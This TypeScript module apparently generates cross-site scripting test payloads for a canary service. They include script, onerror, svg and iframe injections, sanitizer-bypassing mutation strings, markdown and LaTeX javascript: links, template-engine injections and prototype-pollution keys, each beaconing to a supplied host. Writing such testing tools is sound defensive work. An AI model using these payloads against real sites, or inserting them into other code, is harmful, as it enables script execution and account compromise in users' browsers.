/** Text that tries to run code. If it succeeds, the canary receives a request for the payload's path. */
export type Payload = {
  readonly name: string
  readonly text: string
  /** Whether the payload runs immediately when inserted as HTML. Such payloads prove that the canary works. */
  readonly isActive: boolean
}

const TAGS: { readonly [name: string]: (run: string, host: string) => string } = {
  script: (run) => `<script>${run}</script>`,
  scriptEnd: (run) => `</script><script>${run}</script>`,
  attributeEnd: (run) => `"><img src=x onerror="${run}">`,
  quoteEnd: (run) => `'><img src=x onerror="${run}">`,
  img: (run) => `<img src=x onerror="${run}">`,
  imgPair: (run) => `<b>bold</b><img src=x onerror="${run}">`,
  slashes: (run) => `<img/src="x"/onerror="${run}"/>`,
  svg: (run) => `<svg onload="${run}"></svg>`,
  svgScript: (run) => `<svg><script>${run}</script></svg>`,
  svgAnimate: (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  details: (run) => `<details open ontoggle="${run}"><summary>s</summary>d</details>`,
  video: (run) => `<video><source onerror="${run}"></video>`,
  frameDocument: (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  frameAddress: (run) => `<iframe src="javascript:${run}"></iframe>`,
  object: (_run, host) => `<object data="http:${host}/run/object"></object>`,
  embed: (_run, host) => `<embed src="http:${host}/run/embed">`,
  sheet: (_run, host) => `<link rel=stylesheet href="http:${host}/run/sheet">`,
  styleAttribute: (_run, host) => `<p style="background:url(http:${host}/run/styleAttribute)">p</p>`,
  titleEnd: (run) => `</title></textarea></style></noscript><img src=x onerror="${run}">`,
}

/**
 * Payloads that do nothing when inserted as HTML. They run only in one of these cases:
 * - The user clicks or hovers over an element.
 * - A template engine renders the payload.
 * - A sanitizer parses the HTML, and the browser then parses the result again.
 */
const DELAYED_PAYLOADS: { readonly [name: string]: (run: string, host: string) => string } = {
  link: (run) => `<a href="javascript:${run}">press</a>`,
  linkCase: (run) => `<a href=" JaVa&#x09;Script:${run}">press</a>`,
  formAction: (run) => `<form action="javascript:${run}"><button>press</button></form>`,
  buttonAction: (run) => `<form><button formaction="javascript:${run}">press</button></form>`,
  svgLink: (run) => `<svg><a xlink:href="javascript:${run}"><text y="9">press</text></a></svg>`,
  mathLink: (run) => `<math href="javascript:${run}"><mtext>press</mtext></math>`,
  hover: (run) => `<p onmouseover="${run}">press</p>`,
  mutatedSvg: (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  mutatedMath: (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  mutatedNoscript: (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  mutatedForm: (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  markdownLink: (run) => `[press](javascript:${run})`,
  markdownImage: (run) => `![p](x"onerror="${run})`,
  markdownReference: (run) => `[press][1]\n\n[1]: <javascript:${run}>`,
  markdownAutolink: (run) => `<javascript:${run}>`,
  markdownData: (run) => `[press](data:text/html,<script>${run}</script>)`,
  markdownFence: (run) => `\`\`\`html"><img src=x onerror="${run}">\n<script>${run}</script>\n\`\`\``,
  mathFormula: (run) => `$\\href{javascript:${run}}{press}$ $\\htmlData{x=<img src=x onerror=${run}>}{y}$`,
  mathPicture: (_run, host) => `$\\includegraphics{http:${host}/run/mathPicture}$`,
  braces: (run) => `{{constructor.constructor("${run}")()}}{{{record}}}{{#with "s" as |s|}}{{s.constructor}}{{/with}}`,
  templateLiteral: (run) => `\${${run}}#{${run}}<%= ${run} %>[[${run}]]`,
  translation: (run) => `{{count}} $t(common:action.copy) {{- "${run}"}}`,
  prototype: () => '__proto__',
  constructorName: () => 'constructor',
}

/**
 * Code that reports to the canary that a payload has run. It requests the path `/run/<name>`, where `<name>` is the payload's
 * name. It also leaves a mark on the window and in the local storage, if it can access them.
 */
const code = (name: string, host: string): string =>
  `document.createElement('img').src='http:${host}/run/${name}',self.canary='${name}',localStorage.canary=1`

const made = (from: typeof TAGS, host: string, isActive: boolean): readonly Payload[] =>
  Object.entries(from).map(([name, text]) => ({ name, text: text(code(name, host), host), isActive }))

export const payloadsFor = (host: string): readonly Payload[] => [
  ...made(TAGS, host, true),
  ...made(DELAYED_PAYLOADS, host, false),
]

/** Joins payloads. Payloads that leave no tag open come first, because an open tag swallows the rest. */
export const joinPayloads = (payloads: readonly Payload[], separator = '\n\n'): string =>
  payloads.map(({ text }) => text).join(separator)
